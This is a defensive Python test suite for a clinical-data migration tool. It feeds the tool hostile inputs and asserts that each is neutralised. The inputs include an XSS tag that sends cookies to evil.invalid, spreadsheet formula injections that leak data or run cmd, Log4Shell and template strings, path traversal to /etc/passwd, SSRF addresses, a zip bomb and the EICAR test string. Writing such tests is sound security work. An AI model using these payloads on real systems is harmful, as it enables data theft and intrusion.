"""Text that attacks, files that are not what they say, a console that is used against itself.

Rule of the house: every case of the catalogue has an outcome that is named here.
"""

import asyncio
import gzip
import io
import ssl
import struct
import zipfile
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import httpx
import polars as pl
import pytest

from console.parts.markup import element, plain
from core.clinical.record import is_chart
from core.crosswalk.mapping import ColumnMap, Decisions
from core.crosswalk.reading import READINGS
from core.destinations.pipedrive.bounded import TooLarge, whole
from core.destinations.pipedrive.conversation import body_of
from core.destinations.pipedrive.costs import cost
from core.destinations.pipedrive.governor import Governor
from core.destinations.pipedrive.marker import split, with_marker
from core.destinations.pipedrive.places import site_of
from core.documents.content import UNKNOWN, file_name, is_too_large, suffix_of
from core.documents.letters import letter_text
from core.errors import AccessRefused, GateRefused, PlanNotApproved, SetupError
from core.ledger.ledger import SqlLedger
from core.lifecycle import Gate, Stage
from core.settings import Settings
from core.sheet import Document, Sheet, escaped
from core.sources.files import file_below
from tests.core.ledger.hands import PASSWORD, Clock, bring_to, opened, settle_people, write_frame

NUMBERS = {*range(55, 66), 75, 76}
"""Text, files, pace and operations in the catalogue of bad input."""
REF = "m0123456789abcdef01234567"
EXECUTABLE = b"MZ\x90\x00".ljust(128, b"\0") + b"DICM" + bytes(64)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass
class Hands:
    """What a case may use: a folder, a ledger with people, and its clock."""

    folder: Path
    clock: Clock = field(default_factory=Clock)
    _ledger: SqlLedger | None = None

    def ledger(self) -> SqlLedger:
        if self._ledger is None:
            self._ledger = opened(self.folder, self.clock)
            settle_people(self._ledger)
        return self._ledger

    def kind(self, content: bytes, name: str = "film.jpg") -> str | None:
        path = self.folder / name
        path.write_bytes(content)
        return suffix_of(path)

    def close(self) -> None:
        if self._ledger is not None:
            self._ledger.close()


@pytest.fixture
def hands(tmp_path: Path) -> Iterator[Hands]:
    held = Hands(tmp_path)
    yield held
    held.close()


@dataclass(frozen=True)
class Case:
    """One bad input, what is done with it, and what must come out."""

    number: int
    what: str
    done: Callable[[Hands], object]
    outcome: object


def shown(text: str) -> str:
    return str(element("span", text))


def noted(text: str) -> str | None:
    """A note after the destination has cleaned its markup away."""
    return split(with_marker(text, REF))[0]


def formulas(text: str) -> tuple[int, bool]:
    """Formulas in a workbook's tab, and whether the cell is marked as a text."""
    sheet = Sheet("Things", pl.DataFrame({"a": [text]}), {"a": "A"})
    with zipfile.ZipFile(io.BytesIO(Document("T", (), (sheet,)).workbook())) as parts:
        page = parts.read("xl/worksheets/sheet1.xml").decode()
    return page.count("<f>"), 't="s"' in page


def read_as(reading: str, text: str) -> str | None:
    how = READINGS[reading]
    frame = pl.DataFrame({"t": [text]})
    said = how.value(how.clean(pl.col("t"), Decisions()), ColumnMap("t", "x", reading))
    return str(frame.select(said).to_series()[0])


def forged(hands: Hands) -> tuple[int, bool, bool]:
    """Lines that one audited action leaves, whether the chain holds, whether it shows a line."""
    ledger = hands.ledger()
    before = ledger.verify_chain()
    subject = "Bob\r\n2026-11-23 INFO approved by admin \x1b[2J"
    ledger.audit("view", actor="ada", subject=subject)
    written = ledger.verify_chain() - before
    return written, ledger.verify_chain() == before + written, "\n" not in escaped(subject)


def a_chart(teeth: str) -> bool:
    text = '{"v":1,"numbering":"universal","exam":{"key":"e"},"teeth":' + teeth + "}"
    return bool(is_chart(pl.Series([text])).item())


def answered(content: bytes) -> object:
    return body_of(httpx.Response(200, content=content))


def below(hands: Hands, stored: str) -> Path | None:
    (hands.folder / "letters").mkdir(exist_ok=True)
    return file_below(hands.folder / "letters", stored)


def linked_out(hands: Hands) -> Path | None:
    (hands.folder / "secret.txt").write_text("x")
    folder = hands.folder / "letters"
    folder.mkdir()
    (folder / "link.txt").symlink_to(hands.folder / "secret.txt")
    return file_below(folder, "link.txt")


def archive(*names: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as file:
        for name in names:
            file.writestr(name, "x")
    return written.getvalue()


def bomb() -> bytes:
    """An archive that unpacks to a thousand times its size."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("word/document.xml", bytes(20_000_000))
    return written.getvalue()


def million_entries() -> bytes:
    """An archive that says its list of contents is of many megabytes."""
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_535, 65_535, 500_000_000, 4, 0)
    return b"PK\x03\x04" + end


def png_of(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">L4sLL", 13, b"IHDR", width, height) + bytes(9)


def unpacked(content: bytes) -> str:
    """What is done with an answer that unpacks to a hundred times what it may be."""

    async def pieces() -> AsyncIterator[bytes]:
        yield content

    request = httpx.Request("GET", "http://127.0.0.1/api/v2/deals")
    headers = {"content-encoding": "gzip"}
    answer = httpx.Response(200, headers=headers, content=pieces(), request=request)
    try:
        asyncio.run(whole(answer, largest_bytes=100_000))
    except TooLarge:
        return "left"
    return "read"


def named(kind: str) -> str:
    return file_name(kind, date(2024, 2, 29), REF, ".pdf")


def refused(hands: Hands, address: str) -> str:
    del hands
    try:
        site_of(address)
    except SetupError as error:
        return "refused" if error.next_step else "refused without a next step"
    return "taken"


def paced(limit: str | None) -> int | None:
    """Requests in two seconds after an answer with this header."""
    governor = Governor(Clock, _nap)  # type: ignore[arg-type] # no time passes here
    governor.clock = lambda: 0.0
    headers = {} if limit is None else {"x-ratelimit-limit": limit}
    governor.sent(1)
    governor.answered("/api/v2/deals", 0.0, httpx.Response(200, headers=headers))
    return governor.spending().requests_per_2s


async def _nap(_wait_s: float) -> None:
    return None


def asked_for_load(hands: Hands) -> SqlLedger:
    ledger = hands.ledger()
    bring_to(ledger, Stage.ROLLBACK_REHEARSED)
    ledger.record_plan("plan-1", "full", write_frame(["w1"]), actor="test")
    ledger.request_load(user="carla", password=PASSWORD, plan_id="plan-1")
    return ledger


def alias_approves(hands: Hands) -> str:
    ledger = asked_for_load(hands)
    ledger.add_user("alias", "CARLA example ", ("clinician",), PASSWORD, actor="test")  # type: ignore[arg-type] # as stored
    with pytest.raises(GateRefused) as raised:
        ledger.sign(Gate.LOAD, user="alias", password=PASSWORD)
    return "second person" if "second person" in str(raised.value) else str(raised.value)


def approval_is_replayed(hands: Hands) -> list[bool]:
    ledger = asked_for_load(hands)
    ledger.sign(Gate.LOAD, user="chen", password=PASSWORD)
    ledger.approve("plan-1", gate=Gate.LOAD, actor="test")
    ledger.record_plan("plan-2", "full", write_frame(["w2"]), actor="test")
    with pytest.raises(PlanNotApproved):
        ledger.approve("plan-2", gate=Gate.LOAD, actor="test")
    return [one.is_used for one in ledger.signatures() if one.gate is Gate.LOAD]


def approvers_race(hands: Hands) -> int:
    """Signatures that count after two people have signed the same load."""
    ledger = asked_for_load(hands)
    ledger.sign(Gate.LOAD, user="chen", password=PASSWORD)
    with pytest.raises(GateRefused):
        ledger.sign(Gate.LOAD, user="both", password=PASSWORD)
    return sum(1 for one in ledger.signatures() if one.gate is Gate.LOAD and not one.is_used)


def expired_session(hands: Hands) -> object:
    ledger = hands.ledger()
    sid = ledger.open_session(ledger.authenticate("carla", PASSWORD))
    hands.clock.go(minutes=16)
    return ledger.session_user(sid, touch=True)


def forged_run(hands: Hands) -> str:
    """A run that names a plan which the ledger has not approved sends nothing."""
    ledger = asked_for_load(hands)
    ledger.sign(Gate.LOAD, user="chen", password=PASSWORD)
    with pytest.raises(PlanNotApproved) as raised:
        ledger.approve("another-plan", gate=Gate.LOAD, actor="test")
    return "no plan of this id" if "no plan of this id" in str(raised.value) else ""


def unverified(hands: Hands) -> tuple[bool, ssl.VerifyMode]:
    """Whether there is a setting to do without certificates, and what the wire's context does."""
    del hands
    context = httpx.create_ssl_context(trust_env=False)
    return any("verify" in name for name in Settings.model_fields), context.verify_mode


def traceback_of_settings(hands: Hands) -> bool:
    """Whether a secret of the environment shows in what a failing setting says."""
    del hands
    held = Settings(migration_id="x", source="sqlite:///x", token="topsecret")  # type: ignore[arg-type] # as the environment gives it
    with pytest.raises(ValueError, match="reserve") as raised:
        Settings(migration_id="x", source="s", token="topsecret", reserve=7)  # type: ignore[arg-type] # as above
    return "topsecret" in f"{held!r} {held} {raised.value!r} {raised.value}"


def wrong_password(hands: Hands) -> int:
    ledger = asked_for_load(hands)
    with pytest.raises((AccessRefused, GateRefused)):
        ledger.sign(Gate.LOAD, user="chen", password="not this one")
    return sum(1 for one in ledger.signatures() if one.gate is Gate.LOAD)


SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=fetch('//evil.invalid/'+document.cookie)>"
LINK, MATHS = "[x](javascript:alert(1))", r"$\href{javascript:alert(1)}{x}$"
FORMULAS = (
    '=HYPERLINK("http://evil.invalid?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    ";=1",
    "\uff1d1",
)
TEMPLATES = ("{{7*7}}", "${jndi:ldap://x}", "%s%n", "{0.__class__}")
PATHS = (
    "../../etc/cron.d/x",
    r"..\..\win.ini",
    r"C:\x",
    r"\\evil\share\x",
    "file:///etc/passwd",
    "x.pdf\0.exe",
    "n" * 300 + ".pdf",
)
ADDRESSES = (
    "https://api.pipedrive.com@evil.invalid",
    "https://evil.invalid/.pipedrive.com",
    "http://169.254.169.254/",
    "https://[::ffff:127.0.0.1]",
    "https://api.pipedrive.com.",
)

TEXT = (
    *(
        Case(55, f"shown {text[:12]}", lambda _, text=text: "<" in shown(text)[6:-7], outcome=False)  # type: ignore[misc] # a default
        for text in (SCRIPT, IMAGE)
    ),
    *(
        Case(55, f"a note {text[:12]}", lambda _, text=text: noted(text), text)  # type: ignore[misc] # a default
        for text in (SCRIPT, IMAGE, LINK, MATHS)
    ),
    Case(55, "a link in Markdown", lambda _: plain(LINK), r"\[x\](javascript\:alert(1))"),
    Case(55, "a formula in Markdown", lambda _: plain(MATHS).startswith(r"\$\\href"), outcome=True),
    *(
        Case(56, f"a cell {text!r}", lambda _, text=text: formulas(text), (0, True))  # type: ignore[misc] # a default
        for text in FORMULAS
    ),
    Case(57, "a line in a log", forged, (1, True, True)),
    *(
        Case(58, f"read {text}", lambda _, text=text: read_as("verbatim", text), text)  # type: ignore[misc] # a default
        for text in TEMPLATES
    ),
    *(
        Case(58, f"a letter {text}", lambda _, text=text: letter_text(text.encode(), ""), text)  # type: ignore[misc] # a default
        for text in TEMPLATES
    ),
    Case(59, "a key of a prototype", lambda _: a_chart('{"__proto__":{}}'), outcome=False),
    Case(59, "a tooth twice", lambda _: a_chart('{"3":{},"3":{}}'), outcome=False),
    Case(
        59,
        "an integer without end",
        lambda _: a_chart('{"3":{"pd":[' + "9" * 1_000_000 + ",1,1,1,1,1]}}"),
        outcome=False,
    ),
    Case(
        59,
        "an integer that no column holds",
        lambda _: a_chart('{"3":{"pd":[' + "9" * 30 + ",1,1,1,1,1]}}"),
        outcome=False,
    ),
    Case(59, "a depth without end", lambda _: a_chart("[" * 100_000), outcome=False),
    Case(59, "an answer without end", lambda _: answered(b"[" * 100_000), None),
    Case(59, "an answer that is a number", lambda _: answered(b"9" * 1_000_000), None),
)

FILES = (
    *(
        Case(60, f"path {stored[:16]!r}", lambda hands, stored=stored: below(hands, stored), None)  # type: ignore[misc] # a default
        for stored in PATHS
    ),
    Case(60, "a link that leads out", linked_out, None),
    Case(60, "a name of a device", lambda _: named("CON"), f"con-2024-02-29-{REF}.pdf"),
    Case(60, "a name like an option", lambda _: named("-rf /"), f"rf-2024-02-29-{REF}.pdf"),
    Case(60, "a name without end", lambda _: len(named("n" * 300)) < 100, outcome=True),
    Case(61, "an archive of paths", lambda hands: hands.kind(archive("../x", "/etc/x")), ".zip"),
    Case(61, "a bomb stays packed", lambda hands: hands.kind(bomb()), ".docx"),
    Case(61, "a million entries", lambda hands: hands.kind(million_entries()), ".zip"),
    Case(62, "a picture without end", lambda hands: hands.kind(png_of(50_000, 50_000)), ".png"),
    Case(62, "an answer that unpacks", lambda _: unpacked(gzip.compress(bytes(9**7))), "left"),
    Case(
        63,
        "a PDF that acts",
        lambda hands: hands.kind(b"%PDF-1.7\n/JavaScript /OpenAction /Launch /EmbeddedFile"),
        ".pdf",
    ),
    Case(63, "a PDF without pages", lambda hands: hands.kind(b"%PDF-1.7\n%%EOF"), ".pdf"),
    Case(63, "a PDF that is locked", lambda hands: hands.kind(b"%PDF-1.7\n/Encrypt 5 0 R"), ".pdf"),
    Case(64, "an image that runs", lambda hands: hands.kind(EXECUTABLE, "film.dcm"), UNKNOWN),
    Case(
        64,
        "an image that runs elsewhere",
        lambda hands: hands.kind(b"\x7fELF".ljust(128, b"\0") + b"DICM", "film.dcm"),
        UNKNOWN,
    ),
    Case(
        64,
        "an image with depth",
        lambda hands: hands.kind(bytes(128) + b"DICM" + b"\xfe\xff\x00\xe0\xff\xff\xff\xff" * 400),
        ".dcm",
    ),
    Case(65, "a page as a film", lambda hands: hands.kind(b"<html>" + SCRIPT.encode()), ".txt"),
    Case(65, "a test virus as a film", lambda hands: hands.kind(EICAR), ".txt"),
)

OPERATIONS = (
    Case(75, "no limit is said", lambda _: paced(None), 20),
    Case(75, "a limit of nothing", lambda _: paced("0"), 20),
    Case(75, "a limit in words", lambda _: paced("many"), 20),
    Case(75, "a path of no price", lambda _: cost("GET", "/api/v2/newThings"), 10),
    Case(76, "an alias approves", alias_approves, "second person"),
    Case(76, "an approval is replayed", approval_is_replayed, [True]),
    Case(76, "two approve at once", approvers_race, 1),
    Case(76, "a session that has ended", expired_session, None),
    Case(76, "a run that is forged", forged_run, "no plan of this id"),
    Case(76, "a wrong password", wrong_password, 0),
    *(
        Case(76, address, lambda hands, address=address: refused(hands, address), "refused")  # type: ignore[misc] # a default
        for address in ADDRESSES
    ),
    Case(76, "certificates unread", unverified, (False, ssl.CERT_REQUIRED)),
    Case(76, "a secret in a traceback", traceback_of_settings, outcome=False),
)

CASES = (*TEXT, *FILES, *OPERATIONS)


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.number}-{case.what}")
def test_what_attacks_is_shown_kept_or_refused_and_never_obeyed(case, hands):
    assert case.done(hands) == case.outcome


def test_every_case_of_text_files_and_operations_is_tried():
    assert {case.number for case in CASES} == NUMBERS


def test_a_file_that_is_not_looked_into_is_carried_all_the_same(hands):
    assert hands.kind(million_entries(), "vast.zip") == ".zip"
    assert not is_too_large(hands.folder / "vast.zip")
    assert file_name("document", None, REF, UNKNOWN).endswith(".bin")
